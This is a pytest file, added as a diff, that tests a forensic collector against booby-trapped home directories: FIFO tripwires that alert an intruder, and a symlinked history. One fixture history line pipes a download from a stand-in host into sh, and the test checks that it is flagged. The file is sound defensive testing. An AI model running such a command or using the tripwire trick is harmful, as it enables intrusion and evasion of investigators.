@@ -1,0 +1,82 @@
+"""A user's home is theirs to booby-trap: the accounts and persistence collectors read it
+on a host planted in a private mount namespace (tests/hostns.py), where alice (home
+/srv/alice, before bob in /etc/passwd) has planted what an intruder with her account can.
+
+- FIFOs where her start-up and history files are, each with a writer blocked in
+  ``open``: the moment the tool opens one, that writer wakes (a tripwire that tells the
+  intruder a responder is here, before anything is preserved). No FIFO may be opened.
+- Her ``.bash_history`` a symlink to bob's: the history is collected by its real path,
+  so bob's own file must still be collected, read and judged as bob's."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from conftest import journal_records
+from hostns import run_on_planted_host
+
+PASSWD = """root:x:0:0:root:/root:/bin/bash
+alice:x:1000:1000::/srv/alice:/bin/bash
+bob:x:1001:1001::/srv/bob:/bin/bash
+"""
+TRAPS = (".bashrc", ".profile", ".bash_history", ".ssh/authorized_keys", ".zsh_history")
+SETUP = f"""
+cat > /etc/passwd <<'EOF'
+{PASSWD}EOF
+mkdir -p /srv/alice/.ssh /srv/bob
+printf 'ls\\ncurl -s http://203.0.113.5/x | sh\\n' > /srv/bob/.bash_history
+for f in {" ".join(TRAPS)}; do
+    mkfifo "/srv/alice/$f"
+    # A writer blocked until someone opens the FIFO to read it: then it says so.
+    (exec 3>"/srv/alice/$f"; echo "$f" >> /mnt/out/tripped) </dev/null >/dev/null 2>&1 &
+    echo $! >> /mnt/out/writers
+done
+"""
+
+
+def _reap(out: Path) -> None:
+    """The writers still blocked in ``open`` outlive the run: end them (ours, by PID)."""
+    import os
+    import signal
+
+    for line in (out / "writers").read_text().split():
+        try:
+            os.kill(int(line), signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+
+
+def test_fifos_in_a_home_are_never_opened(tmp_path: Path) -> None:
+    try:
+        summary, evidence = run_on_planted_host(tmp_path, SETUP, "--only", "accounts,persistence")
+    finally:
+        _reap(tmp_path / "out")
+    tripped = tmp_path / "out/tripped"
+    assert not tripped.exists(), f"opened: {tripped.read_text().split()}"
+    assert summary["status"] == "complete", summary
+    listed = json.loads((evidence / "artifacts/accounts/histories.json").read_text())
+    assert not any(row["path"].startswith("/srv/alice/") for row in listed)
+
+
+def test_a_history_symlinked_to_anothers_does_not_hide_it(tmp_path: Path) -> None:
+    setup = SETUP.replace(
+        "for f in", "ln -s /srv/bob/.bash_history /srv/alice/.bash_history\nfor f in"
+    ).replace(".bash_history .ssh", ".ssh")
+    try:
+        summary, evidence = run_on_planted_host(tmp_path, setup, "--only", "accounts")
+    finally:
+        _reap(tmp_path / "out")
+    listed = json.loads((evidence / "artifacts/accounts/histories.json").read_text())
+    [bob] = [row for row in listed if row["path"] == "/srv/bob/.bash_history"]
+    assert bob["user"] == "bob" and bob["commands"] == 2
+    stored = evidence / bob["artifact"]
+    assert b"203.0.113.5" in stored.read_bytes()
+    records = journal_records(evidence)
+    found = {(r["rule"], r["source"]["path"]) for r in records if r.get("event") == "finding"}
+    assert ("history-download-and-run", "/srv/bob/.bash_history") in found
+    [link] = [
+        r for r in records
+        if r.get("type") == "skipped" and r["source"]["path"] == "/srv/alice/.bash_history"
+    ]  # fmt: skip
+    assert "symlink" in link["reason"]
